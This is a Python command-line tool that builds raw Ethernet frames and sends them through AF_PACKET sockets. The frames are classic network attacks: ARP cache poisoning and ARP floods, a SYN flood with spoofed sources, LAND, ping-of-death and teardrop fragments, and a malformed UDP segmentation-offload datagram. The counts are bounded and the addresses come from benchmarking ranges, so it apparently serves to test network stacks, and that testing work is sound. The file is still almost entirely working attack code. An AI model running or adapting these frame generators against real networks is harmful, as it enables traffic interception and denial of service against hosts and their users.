#!/usr/bin/env python3
"""Frames that no ordinary program sends, onto an interface by AF_PACKET; bounded counts.

    frames.py arp-claim IFACE ADDRESS            one gratuitous ARP: somebody else has ADDRESS
    frames.py arp-flood IFACE COUNT              gratuitous ARP from COUNT senders in 198.18.0.0/16
    frames.py arp-replies IFACE MAC ADDRESS COUNT   unsolicited replies to ADDRESS at MAC
    frames.py syn-flood IFACE MAC ADDRESS PORT COUNT   SYNs from COUNT spoofed sources in 198.19.0.0/16
    frames.py land IFACE MAC ADDRESS PORT        a SYN from ADDRESS and PORT to themselves
    frames.py ping-of-death IFACE MAC ADDRESS    a last fragment that ends beyond 65,535
    frames.py teardrop IFACE MAC ADDRESS         two fragments that overlap
    frames.py merged IFACE MAC ADDRESS PORT LENGTH SIZE   a UDP datagram of LENGTH bytes that the interface is told
                                                 to be a row of such of SIZE
"""
import ipaddress
import random
import socket
import struct
import sys

BROADCAST = b"\xff" * 6
OTHER = bytes.fromhex("02aabbccdd01")


def address(text):
    return ipaddress.IPv4Address(text).packed


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def arp(target_mac, operation, sender_mac, sender, target):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    body += sender_mac + sender + (b"\0" * 6 if operation == 1 else target_mac) + target
    return target_mac + sender_mac + b"\x08\x06" + body


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(target_mac, source, target, protocol, flags_offset, payload):
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 4711, flags_offset, 64, protocol, 0) + source + target
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return target_mac + OTHER + b"\x08\x00" + ip + payload


MORE = 0x2000


def fragment(args, flags, offset, length):
    """A piece of an echo request from the host's address; offset and length in bytes."""
    return packet(mac(args[0]), address("198.18.0.1"), address(args[1]), 1, flags | offset // 8, bytes(length))


def syn(target_mac, source, port, target, target_port):
    tcp = struct.pack("!HHIIBBHHH", port, target_port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return packet(target_mac, source, target, 6, 0x4000, tcp)


def numbered_mac(i):
    return b"\x02\x01" + struct.pack("!I", i)


def frames(what, args):
    if what == "arp-claim":
        sender = address(args[0])
        yield arp(BROADCAST, 1, OTHER, sender, sender)
    elif what == "arp-flood":
        for i in range(int(args[0])):
            sender = address("198.18.0.0")[:2] + struct.pack("!H", (i % 65000) + 256)
            yield arp(BROADCAST, 1, numbered_mac(i), sender, sender)
    elif what == "arp-replies":
        for i in range(int(args[2])):
            sender = b"\xc6\x12" + struct.pack("!H", (i % 65000) + 256)
            yield arp(mac(args[0]), 2, numbered_mac(i), sender, address(args[1]))
    elif what == "syn-flood":
        for i in range(int(args[3])):
            source = b"\xc6\x13" + struct.pack("!H", (i % 65000) + 256)
            yield syn(mac(args[0]), source, random.randrange(1024, 65536), address(args[1]), int(args[2]))
    elif what == "land":
        yield syn(mac(args[0]), address(args[1]), int(args[2]), address(args[1]), int(args[2]))
    elif what == "merged":
        length, size = int(args[3]), int(args[4])
        datagram = struct.pack("!HHHH", 2000, int(args[2]), 8 + length, 0) + bytes(length)
        pseudo = address("198.18.0.1") + address(args[1]) + struct.pack("!BBH", 0, 17, 8 + length)
        datagram = datagram[:6] + struct.pack("!H", checksum(pseudo) ^ 0xFFFF) + datagram[8:]
        # struct virtio_net_hdr: NEEDS_CSUM, GSO_UDP_L4
        header = struct.pack("=BBHHHH", 1, 5, 42, size, 34, 6)
        yield header + packet(mac(args[0]), address("198.18.0.1"), address(args[1]), 17, 0, datagram)
    elif what == "ping-of-death":
        yield fragment(args, 0, 65528, 64)
    elif what == "teardrop":
        yield fragment(args, MORE, 0, 64)
        yield fragment(args, 0, 32, 64)
    else:
        sys.exit(__doc__)


def main(what, iface, *args):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    if what == "merged":
        wire.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
    wire.bind((iface, 0))
    sent = 0
    for frame in frames(what, args):
        try:
            wire.send(frame)
        except OSError:  # ENOBUFS: the interface's queue is full, which is what a flood does
            continue
        sent += 1
    print(sent)


if __name__ == "__main__":
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    main(*sys.argv[1:])
